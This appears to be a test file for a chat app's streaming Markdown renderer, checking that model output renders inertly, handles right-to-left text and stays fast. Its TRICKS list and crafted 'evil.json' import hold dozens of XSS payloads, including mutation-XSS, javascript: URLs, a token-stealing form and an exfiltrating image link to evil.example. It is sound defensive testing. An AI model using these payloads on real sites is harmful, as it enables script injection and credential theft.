// What a model says becomes inert elements, the same ones however it is cut
// into pieces, at little cost.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { ask, close, costs, done, open, over, prose, script, serve, shot,
	value } from './kit.mjs';

let server;

before(async () => { server = await serve(); });
after(close);

// Known ways of turning text into script, a request or a disguise: HTML, event
// handlers, addresses, mutations of the parser, clobbering, styles, Markdown's
// own links and images.
const TRICKS = [
	'<script>tell()</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<img src=x onerror=tell()>', '<svg onload=tell()>',
	'<svg><script>tell()</script></svg>',
	'<svg><animate onbegin=tell() attributeName=x dur=1s>',
	'<svg><a xlink:href="javascript:tell()"><text y=20>x</text></a></svg>',
	'<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
	'<svg><style><img src=x onerror=tell()></style></svg>',
	'<math><mtext><table><mglyph><style><!--</style>' +
		'<img title="--&gt;&lt;img src=1 onerror=tell()&gt;">',
	'<math href="javascript:tell()">CLICK</math>',
	'<math><annotation-xml encoding="text/html"><img src=x onerror=tell()>',
	'<iframe src="javascript:tell()"></iframe>',
	'<iframe srcdoc="<script>parent.tell()</script>"></iframe>',
	'<object data="javascript:tell()"></object>',
	'<embed src="javascript:tell()">', '<base href="//evil.example/">',
	'<meta http-equiv="refresh" content="0;url=//evil.example/">',
	'<link rel=stylesheet href="//evil.example/x.css">',
	'<style>*{display:none}@import "//evil.example/x.css";</style>',
	'<p style="position:fixed;inset:0;background:url(//evil.example/)">x',
	'<body onload=tell()>', '<details open ontoggle=tell()>x</details>',
	'<input autofocus onfocus=tell()>', '<video><source onerror=tell()>',
	'<audio src=x onerror=tell()>', '<marquee onstart=tell()>x</marquee>',
	'<form action="//evil.example/"><input name=token><button>Log in' +
		'</button></form>',
	'<a href="javascript:tell()">a</a>',
	'<a href="jAvAsCrIpT&colon;tell()">b</a>',
	'<a href="&#106;avascript:tell()">c</a>',
	'<a href="java\tscript:tell()">d</a>',
	'<a href="vbscript:tell()">e</a>',
	'<a href="data:text/html,<script>tell()</script>">f</a>',
	'[g](javascript:tell())', '[h](JAVASCRIPT:tell())',
	'[i](&#x6A;avascript:tell())', '[j](<javascript:tell()>)',
	'[k](data:text/html;base64,PHNjcmlwdD4=)', '[l](vbscript:tell())',
	'[m](/usage)', '[n](//evil.example/x)', '[o](#usage)',
	'![p](https://evil.example/steal?q=secret)',
	'![q](javascript:tell())', '![r](data:image/svg+xml,<svg onload=tell()>)',
	'![s](https://evil.example/x "onerror=tell()")',
	'[t](https://example.org/"onmouseover="tell())',
	'<javascript:tell()>', '<https://example.org/"onclick="tell()>',
	'[u]: javascript:tell()\n\n[u]', '[x][v]\n\n[v]: https://example.org "a"',
	'<img id=live><a id=composer name=body>x</a><form name=location>',
	'<div class="trouble note" id="settings" role="dialog">Log in</div>',
	'<p data-said data-due="1" aria-hidden="true" tabindex="0">y</p>',
	'<noscript><p title="</noscript><img src=x onerror=tell()>">',
	'<textarea></textarea><img src=x onerror=tell()>',
	'<!--<img src="--><img src=x onerror=tell()>">',
	'<template><script>tell()</script></template>',
	'<select><template shadowrootmode=open><img src=x onerror=tell()>',
	'<x-y is="a" onclick=tell()>z</x-y>', '<![CDATA[<img onerror=tell()>]]>',
	'<?xml-stylesheet href="javascript:tell()"?>',
	'`<img src=x onerror=tell()>`',
	'```html onload=tell()\n<script>tell()</script>\n```',
	'```"><img src=x onerror=tell()>\nx\n```',
	'- ```"><img src=x onerror=tell()>\n  y\n  ```',
	'| <img src=x onerror=tell()> | b |\n|---|---|\n| [a](javascript:x) |' +
		' <svg onload=tell()> |',
	'\u202eevil\u202c \u0000 \ufeff &lt;script&gt;tell()&lt;/script&gt;',
];
const TAGS = ('A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR I ' +
	'KBD LI MARK OL P PRE S SMALL SPAN STRONG SUB SUP svg TABLE TBODY TD ' +
	'TH THEAD TR U UL use').split(' ');

async function inert(page) {
	const bad = await page.evaluate((tags) => {
		const out = [];
		const own = ['code', 'code-head', 'lang', 'quiet', 'icon', 'table',
			'plain', 'offscreen'];

		for (const n of document.querySelectorAll('.prose *')) {
			if (!tags.includes(n.tagName))
				out.push(n.tagName);
			for (const { name, value: v } of n.attributes) {
				if (/^on|^style$|^id$|^name$|^src/.test(name))
					out.push(`${n.tagName} ${name}`);
				if (name === 'class' && v.split(' ').some((c) =>
					!own.includes(c) && !c.startsWith('hljs')))
					out.push(`class ${v}`);
			}
			if (n.tagName === 'A' && (!/^(https?|mailto):/.test(
				n.getAttribute('href')) || n.target !== '_blank' ||
				!n.rel.includes('noopener')))
				out.push(`A ${n.outerHTML}`);
		}
		return out;
	}, TAGS);

	assert.deepEqual(bad, []);
	assert.equal(await page.evaluate(() => globalThis.told), undefined);
}

const armed = (page) => page.addInitScript(() => {
	globalThis.tell = () => { globalThis.told = true; };
});

test('every known trick is inert, alone and together', async () => {
	const page = await open(server, { model: 'cerebras/gpt-oss',
		init: armed });

	await script(server, 'gpt-oss', 'text=' +
		value(TRICKS.join('\n\n')));
	await ask(page, 'Attack');
	await page.waitForTimeout(700);
	await inert(page);
	/* what was meant to be read can be read */
	for (const text of ['<script>tell()</script>', '<img src=x onerror=tell()>',
		'<form action='])
		assert.ok((await prose(page).innerText()).includes(text), text);
	await shot(page, 'xss');
	/* and each by itself, straight into the renderer, in small pieces too */
	await page.evaluate(async (tricks) => {
		const { Rich, ready } = await import('./js/rich.js');

		await ready();
		for (const trick of tricks)
			for (const size of [1, 7, 1e6]) {
				const root = document.createElement('div');

				root.className = 'prose';
				document.querySelector('#log').append(root);
				const rich = new Rich(root);
				for (let i = 0; i < trick.length; i += size) {
					rich.push(trick.slice(i, i + size));
					rich.how.drawn = -Infinity;
					rich.draw();
				}
				rich.end();
			}
	}, TRICKS);
	await page.waitForTimeout(700);
	await inert(page);
	assert.ok(await page.locator('.prose *').count() > 400);
	for (const link of await page.locator('.prose a').all())
		assert.match(await link.getAttribute('href'),
			/^(https:\/\/(evil\.)?example|mailto:)/);
	/* nor from a conversation out of a file */
	await page.setInputFiles('[name=file]', { name: 'evil.json',
		mimeType: 'application/json', buffer: Buffer.from(JSON.stringify({
			kind: 'relevo-conversations', version: 1, conversations: [{
				id: '00000000-evil',
				title: '<img src=x onerror=tell()>', at: Date.now(),
				turns: [{ text: '<img src=x onerror=tell()>', at: 1,
					shown: 7, images: ['javascript:tell()',
						'https://evil.example/x.png'],
					answers: [{ text: TRICKS.join('\n\n'),
						provider: '<b onclick=tell()>', model: 1,
						attempts: 'no', usage: [], end: 'x' }] }] },
			{ id: 7 }, { id: '"><img src=x onerror=tell()>',
				turns: [{ text: 'x', answers: [{}] }] }, null] })) });
	await page.getByText('Conversations taken over: 1').waitFor();
	await page.locator('.talk-open').first().click();
	await page.waitForTimeout(500);
	await inert(page);
	assert.equal(await page.locator('.asked img').count(), 0);
	await done(page);
});

const MIXED = `# Title

Para one with **bold**, \`code\` and a [ref].
Second line.

Setext
======

1. one
2. two

   two, continued
   - nested

     \`\`\`sh
     echo hi
     \`\`\`
3. three

- a
- b

  c

| a | b |
|:--|--:|
| 1 | 2 |

> quote
lazy line

\`\`\`js
let a = "\`\`";

let b = 2;
\`\`\`

~~~
\`\`\`
~~~

* * *

Text
- list after text

    indented code

<b>bold</b> and H<sub>2</sub>O, 1 < 2 && 3 > 2

- [ ] open
- [x] done

[ref]: https://example.org/ "Ref"

End.`;

/* With a definition at the end all is drawn anew; without one, what was
 * finished early must have been right. */
for (const [name, text] of [['with a definition', MIXED],
	['without one', MIXED.replace(/^\[ref\]:.*$/m, '')]])
	test(`the same elements, however the text is cut, ${name}`, async () => {
		const page = await open(server);
		const [whole, others] = await page.evaluate(cuts, text);

		assert.match(whole, /<h1 dir="auto">Title<\/h1>/);
		assert.match(whole, /align="right"/);
		assert.equal(/example/.test(whole), name.startsWith('with a '));
		for (const html of others)
			assert.equal(html, whole);
		await done(page);
	});

// In the page: the text drawn at once, and in pieces of many sizes.
async function cuts(text) {
	const { Rich, ready } = await import('./js/rich.js');
	const render = (cut) => {
		const root = document.createElement('div');
		const rich = new Rich(root);

		for (let i = 0; i < text.length; ) {
			const n = cut();

			rich.push(text.slice(i, i + n));
			rich.how.drawn = -Infinity;
			rich.draw();
			i += n;
		}
		rich.end();
		return root.innerHTML;
	};

	await ready();
	const out = [];
	for (const n of [1, 2, 3, 5, 8, 13, 64, 200])
		out.push(render(() => n));
	let seed = 7;
	for (let k = 0; k < 40; k++)
		out.push(render(() => 1 + (seed = seed * 16807 % 2147483647) %
			30));
	return [render(() => 1e6), out];
}

test('what is written from right to left begins there', async () => {
	const page = await open(server, { model: 'cerebras/gpt-oss' });
	const way = (selector) => prose(page).locator(selector).first()
		.evaluate((n) => getComputedStyle(n).direction);

	await script(server, 'gpt-oss', 'text=' + value('From the left\n\n' +
		'# عنوان\n\n- واحد\n\n  ```sh\n  ls -l\n  ```\n\n> مرحبا!'));
	await ask(page, 'مرحبا، كيف حالك؟');
	assert.equal(await way('p'), 'ltr');
	for (const selector of ['h1', 'ul', 'li', 'blockquote', 'blockquote p'])
		assert.equal(await way(selector), 'rtl', selector);
	assert.equal(await way('.code pre'), 'ltr');
	assert.equal(await page.locator('.asked p').evaluate((n) =>
		getComputedStyle(n).direction), 'rtl');
	await done(page);
});

// About 20 KB, in the proportions of a long answer of a model.
function long() {
	const part = (i) => `## Part ${i}\n\nThis is **paragraph ${i}** of a ` +
		`long answer with \`code\`, a [link](https://example.org/${i}) and ` +
		'enough words to wrap over several lines on any screen, as real '
		+ 'answers do when they explain a thing at length.\n\n' +
		'- a point\n- another *point* with more words in it\n  - below\n\n' +
		'```python\n' + `def f${i}(x):\n    """Doc."""\n    for n in range` +
		'(x):\n        yield n * 2\n    return None\n```\n\n' +
		`| a | b |\n|---|---|\n| ${i} | two |\n| three | four |\n\n`;
	let text = '';

	for (let i = 1; text.length < 20000; i++)
		text += part(i);
	return text;
}

test('20 KB in pieces of a word: scripting well under a second', async (t) => {
	const page = await open(server, { model: 'cerebras/gpt-oss' });
	const text = long();
	const parts = text.match(/^## /gm).length;

	await script(server, 'gpt-oss', 'pace=1,text=' + value(text));
	await page.evaluate(() => {
		let last = performance.now();
		const beat = () => {
			const now = performance.now();

			globalThis.gaps.push(now - last);
			last = now;
			requestAnimationFrame(beat);
		};

		globalThis.gaps = [];
		requestAnimationFrame(beat);
	});
	const cost = await costs(page);
	const at = Date.now();
	await ask(page, 'Long', { wait: false });
	await page.locator('.answer:not(.live) .tools').waitFor({ timeout: 60000,
		state: 'attached' });
	const ms = Date.now() - at;
	const took = await cost();
	const gaps = await page.evaluate(() => globalThis.gaps.sort((a, b) =>
		b - a).slice(0, 5).map(Math.round));
	t.diagnostic(`${text.length} characters, ${text.split(' ').length} ` +
		`pieces in ${ms} ms: scripting ${took('ScriptDuration')} ms, ` +
		`layout ${took('LayoutDuration')}, style ` +
		`${took('RecalcStyleDuration')}, all tasks ` +
		`${took('TaskDuration')}; longest gaps between frames ` +
		`${gaps.join(', ')} ms`);
	assert.ok(took('ScriptDuration') < 900);
	assert.equal(await prose(page).locator('h2').count(), parts);
	assert.equal(await prose(page).locator('table').count(), parts);
	await done(page);
});

test('what no parser likes costs no more than a moment', async () => {
	const page = await open(server);
	const hard = { quotes: '> '.repeat(5000) + 'x',
		brackets: '['.repeat(20000), stars: '*a '.repeat(8000),
		ticks: '`'.repeat(20000) + 'x', lists: Array.from({ length:
		300 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n'),
		table: '|a'.repeat(3000) + '\n' + '|-'.repeat(3000) + '\n',
		long: 'word '.repeat(20000) };

	for (const [name, text] of Object.entries(hard)) {
		const cost = await costs(page);
		const shown = await page.evaluate(async (t) => {
			const { Rich, ready } = await import('./js/rich.js');
			const root = document.createElement('div');
			const rich = new Rich(root);

			await ready();
			rich.push(t);
			rich.draw();
			rich.end();
			return root.textContent.length;
		}, text);
		const ms = (await cost())('TaskDuration');

		assert.ok(shown > 0, `${name}: nothing shown`);
		assert.ok(ms < 3000, `${name}: ${ms}`);
	}
	await done(page);
});
